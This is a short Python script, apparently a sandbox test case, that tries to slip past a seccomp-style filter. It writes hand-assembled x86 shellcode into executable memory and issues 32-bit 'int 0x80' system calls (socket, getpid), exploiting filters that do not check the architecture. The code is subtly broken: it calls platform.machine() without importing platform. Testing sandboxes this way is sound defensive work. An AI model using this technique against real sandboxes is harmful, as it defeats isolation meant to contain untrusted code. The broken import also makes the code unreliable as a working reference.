# Makes 32-bit system calls by "int 0x80" from machine code of its own: there 1 is exit, 2 fork, 359
# socket.
# A filter that does not ask for the architecture takes them for the 64-bit calls of these numbers.
# contained: killed, passed
import ctypes
import mmap


def attack():
    if platform.machine() != "x86_64":
        return None
    code = bytes.fromhex("53 89f8 89f3 89d1 4489c2 cd80 4898 5b c3".replace(" ", ""))
    # push rbx; mov eax, edi; mov ebx, esi; mov ecx, edx; mov edx, r8d (unused); int 0x80; cdqe; pop; ret
    pages = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    pages.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(pages))
    call = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_int, ctypes.c_int, ctypes.c_int)(address)
    socket, getpid, unix, stream = 359, 20, 1, 1
    fd = call(socket, unix, stream)
    if fd >= 0:
        return f"a socket, {fd}"
    pid = call(getpid, 0, 0)
    return f"process {pid}" if pid > 0 else None
